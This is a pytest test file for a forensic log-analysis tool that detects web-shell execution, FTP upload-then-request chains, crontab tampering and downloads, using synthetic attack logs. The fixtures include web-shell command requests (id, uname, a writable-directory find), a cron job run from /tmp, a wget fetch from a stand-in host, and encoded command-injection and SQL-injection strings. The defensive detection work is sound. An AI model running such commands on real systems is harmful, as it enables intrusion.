"""Web, FTP, cron and error-log detectors on a small web server's logs written the way Apache,
vsftpd and cronie write them."""

from __future__ import annotations


import pytest

from logsalvage.config import parse_config
from logsalvage.detect import cron, errorlog, ftp, web
from logsalvage.detect.context import Context, settings_from
from logsalvage.detect.model import Finding, Milestone
from logsalvage.detect.web import command_like
from logsalvage.ingest import ingest
from logsalvage.store import CaseStore

ACCESS = """\
198.51.100.7 - - [20/Jan/2017:05:39:01 +0900] "GET /phpMyAdmin/scripts/setup.php HTTP/1.1" 404 209 "-" "Mozilla/5.0"
198.51.100.7 - - [20/Jan/2017:05:39:02 +0900] "GET /wp-login.php HTTP/1.1" 404 209 "-" "Mozilla/5.0"
203.0.113.50 - - [21/Jan/2017:10:00:00 +0900] "GET /index.php?sort=id HTTP/1.1" 200 900 "-" "Mozilla/5.0"
203.0.113.50 - - [21/Jan/2017:10:00:05 +0900] "GET /favicon.ico HTTP/1.1" 404 209 "-" "Mozilla/5.0"
79.172.212.37 - - [15/Jul/2017:08:58:21 +0900] "GET /wp-contacts.php?c=id HTTP/1.1" 200 54 "-" "Wget/1.17.1"
79.172.212.37 - - [15/Jul/2017:08:58:40 +0900] "GET /wp-contacts.php?c=uname%20-a HTTP/1.1" 200 120 "-" "Wget/1.17.1"
46.166.148.58 - - [31/Aug/2017:08:57:58 +0900] "GET /wp-contacts.php?c=df%20-h HTTP/1.1" 200 300 "-" "-"
46.166.148.58 - - [25/Dec/2017:15:27:04 +0900] "GET /wp-contacts.php?c=find%20%2F%20-type%20d%20-perm%20-o%2Bw HTTP/1.1" 200 1278 "-" "-"
"""
VSFTPD = """\
Fri Oct 20 10:20:28 2017 [pid 3001] CONNECT: Client "79.172.212.37"
Fri Oct 20 10:20:30 2017 [pid 3000] [kyushoferry] OK LOGIN: Client "79.172.212.37"
Fri Oct 20 10:20:44 2017 [pid 3002] [kyushoferry] OK UPLOAD: Client "79.172.212.37", "/htdocs/wp-contacts.php", 1234 bytes, 98.00Kbyte/sec
Sat Oct 21 09:00:00 2017 [pid 3101] CONNECT: Client "153.156.83.40"
Sat Oct 21 09:00:02 2017 [pid 3100] [kyushoferry] OK LOGIN: Client "153.156.83.40"
Sat Oct 21 09:00:10 2017 [pid 3102] [kyushoferry] OK UPLOAD: Client "153.156.83.40", "/htdocs/index.php", 9000 bytes, 98.00Kbyte/sec
""" + "".join(f'Thu Feb  2 01:48:{30 + i:02d} 2017 [pid {4000 + i}] [admin] FAIL LOGIN: Client "91.200.49.29"\n'
              for i in range(6))
CRON = """\
Nov 12 21:03:44 web01 crontab[28166]: (nobody) LIST (nobody)
Dec 12 07:23:06 web01 crontab[28410]: (nobody) REPLACE (nobody)
Dec 12 07:24:01 web01 CROND[28500]: (nobody) CMD (/tmp/upd >/dev/null 2>&1)
Dec 12 07:25:01 web01 CROND[28501]: (nobody) CMD (/tmp/upd >/dev/null 2>&1)
Dec 12 07:30:01 web01 CROND[28502]: (root) CMD (/usr/lib64/sa/sa1 1 1)
Jan  5 18:37:45 web01 crontab[1193]: (root) DELETE (nobody)
"""
ERRORS = """\
[Sun Dec 24 10:00:00 2017] [notice] caught SIGTERM, shutting down
[Sun Dec 24 10:01:00 2017] [notice] Apache/2.2.21 (Unix) PHP/5.3.29 configured -- resuming normal operations
[Mon Dec 25 15:26:15 2017] [error] [client 61.89.205.218] File does not exist: /var/www/html/favicon.ico
find: '/root': Permission denied
find: '/var/spool/cron': Permission denied
--2017-12-25 15:28:56--  http://dl.mirror-cdn.example/v.tgz
Resolving dl.mirror-cdn.example... 203.0.113.5
Connecting to dl.mirror-cdn.example|203.0.113.5|:80... connected.
HTTP request sent, awaiting response... 200 OK
Length: 1841651 (1.8M) [application/x-gzip]
Saving to: `v.tgz'
2017-12-25 15:28:58 (1.2 MB/s) - `v.tgz' saved [1841651/1841651]
[Fri Jan 05 19:50:00 2018] [notice] caught SIGTERM, shutting down
"""
CONFIG = parse_config({"acquired": "2018-01-06T15:00:00+09:00",
                       "hosts": {"web01": {"timezone": "Asia/Tokyo"}},
                       "inventory": {"web": ["/index.php", "/search.php"]},
                       "detect": {"maintenance_addresses": ["153.156.83.40"]}}, "test")


@pytest.fixture(scope="module")
def items(tmp_path_factory):
    root = tmp_path_factory.mktemp("chain")
    ev = root / "ev/web01/var/log"
    for rel, text in (("httpd/access_log", ACCESS), ("httpd/error_log", ERRORS), ("vsftpd.log", VSFTPD),
                      ("cron", CRON)):
        (ev / rel).parent.mkdir(parents=True, exist_ok=True)
        (ev / rel).write_text(text)
    ingest([root / "ev"], root / "case", config=CONFIG)
    with CaseStore(root / "case") as store:
        ctx = Context(store, settings_from(CONFIG))
        return [i for m in (web, ftp, cron, errorlog) for i in m.detect(ctx)]


def _milestones(items, kind):
    return [m for m in items if isinstance(m, Milestone) and m.kind == kind]


def _findings(items, rule):
    return [f for f in items if isinstance(f, Finding) and f.rule == rule]


def _jst(m) -> str:
    from zoneinfo import ZoneInfo
    return m.time.astimezone(ZoneInfo("Asia/Tokyo")).isoformat()


def test_scanner_probes_and_the_first_one(items):
    (probe,) = _findings(items, "web.scanner_probe")
    assert probe.count == 2 and probe.sources == ("198.51.100.7",)
    assert _jst(_milestones(items, "first_probe")[0]) == "2017-01-20T05:39:01+09:00"


def test_web_shell_executions_are_scripts_outside_the_inventory(items):
    shells = _findings(items, "web.webshell_execution")
    assert [f.detail["script"] for f in shells] == ["/wp-contacts.php"]  # index.php?sort=id is the site's own
    assert shells[0].count == 4 and shells[0].severity == "critical"
    first = _milestones(items, "first_webshell_execution")[0]
    assert _jst(first) == "2017-07-15T08:58:21+09:00" and first.detail["url"] == "/wp-contacts.php?c=id"
    networks = _milestones(items, "webshell_first_use_from_network")
    assert [(m.detail["network"], _jst(m)) for m in networks] == [
        ("79.172.212.0/24", "2017-07-15T08:58:21+09:00"), ("46.166.148.0/24", "2017-08-31T08:57:58+09:00")]
    (commands,) = _findings(items, "web.command_parameter")
    assert "uname -a" in commands.detail["examples"]


def test_ftp_upload_then_request_and_guessing(items):
    sessions = _milestones(items, "ftp_upload_session")
    assert [(_jst(m), m.detail["uploads"]) for m in sessions] == [
        ("2017-10-20T10:20:28+09:00", ["/htdocs/wp-contacts.php"])]  # the maintenance upload is not one
    (chain,) = _findings(items, "ftp.upload_then_request")
    assert chain.detail["url"] == "/wp-contacts.php" and chain.detail["delay_s"] > 0
    (guess,) = _findings(items, "ftp.login_guessing")
    assert guess.count == 6 and guess.sources == ("91.200.49.29",)
    assert [f.sources for f in _findings(items, "ftp.login")] == [("79.172.212.37",)]


def test_crontab_changes_and_jobs_from_tmp(items):
    kinds = [(m.kind, _jst(m)) for m in items if isinstance(m, Milestone) and m.kind.startswith("crontab")]
    assert kinds == [("crontab_list", "2017-11-12T21:03:44+09:00"), ("crontab_replace", "2017-12-12T07:23:06+09:00"),
                     ("crontab_delete_by_admin", "2018-01-05T18:37:45+09:00")]
    (change,) = _findings(items, "cron.crontab_change")
    assert change.detail["user"] == "nobody" and change.severity == "high"
    (job,) = _findings(items, "cron.suspicious_job")
    assert job.count == 2 and job.detail["command"].startswith("/tmp/upd")
    assert _jst(_milestones(items, "cron_first_run")[0]) == "2017-12-12T07:24:01+09:00"


def test_error_log_artifacts(items):
    (download,) = _milestones(items, "download")
    assert download.detail == {"url": "http://dl.mirror-cdn.example/v.tgz", "outcome": "saved"}
    assert _jst(download) == "2017-12-25T15:28:56+09:00"
    (find,) = _milestones(items, "find_scan")
    assert _jst(find) == "2017-12-25T15:27:04+09:00"  # the request that ran find, not the line before it
    assert [_jst(m) for m in _milestones(items, "web_server_restart")] == ["2017-12-24T10:00:00+09:00"]
    assert [_jst(m) for m in _milestones(items, "server_stopped")] == ["2018-01-05T19:50:00+09:00"]


@pytest.mark.parametrize("query, command", [
    ("c=id", "id"), ("c=uname%20-a", "uname -a"), ("cmd=cd%20%2Ftmp%3Bwget%20http%3A%2F%2Fx", "cd /tmp;wget http://x"),
    ("id=1);SELECT PG_SLEEP(5)--", None), ("q=1%20UNION%20ALL%20SELECT%20NULL--", None), ("name=Smith", None),
    ("", None), (None, None),
])
def test_command_like_parameters(query, command):
    assert command_like(query) == command


def test_uploads_from_xferlog_alone_chain_to_the_requests(tmp_path):
    """No vsftpd native log, only xferlog (wu-ftpd, proftpd, or vsftpd with xferlog_std_format):
    the upload and the upload -> request chain are found the same, an incomplete transfer is not."""
    ev = tmp_path / "ev/web01/var/log"
    (ev / "httpd").mkdir(parents=True)
    (ev / "xferlog").write_text(
        "Fri Oct 20 10:20:44 2017 2 79.172.212.37 1234 /htdocs/wp-contacts.php b _ i r kyushoferry ftp 0 * c\n"
        "Fri Oct 20 10:21:10 2017 1 79.172.212.37 99 /htdocs/half.php b _ i r kyushoferry ftp 0 * i\n"
        "Fri Oct 20 10:22:00 2017 1 153.156.83.40 900 /htdocs/index.php b _ i r kyushoferry ftp 0 * c\n")
    (ev / "httpd/access_log").write_text(
        '79.172.212.37 - - [20/Oct/2017:10:25:00 +0900] "GET /wp-contacts.php?c=id HTTP/1.1" 200 54 "-" "Wget/1.17.1"\n'
        '79.172.212.37 - - [20/Oct/2017:10:26:00 +0900] "GET /half.php HTTP/1.1" 200 10 "-" "Wget/1.17.1"\n')
    ingest([tmp_path / "ev"], tmp_path / "case", config=CONFIG)
    with CaseStore(tmp_path / "case") as store:
        found = ftp.detect(Context(store, settings_from(CONFIG)))
    uploads = [f for f in found if isinstance(f, Finding) and f.rule == "ftp.upload"]
    assert [f.detail["paths"] for f in uploads] == [["/htdocs/wp-contacts.php"]]  # the maintenance address set aside
    [chain] = [f for f in found if isinstance(f, Finding) and f.rule == "ftp.upload_then_request"]
    assert chain.detail["url"] == "/wp-contacts.php" and chain.severity == "critical"
    [session] = _milestones(found, "ftp_upload_session")
    assert session.detail["source"] == "79.172.212.37"
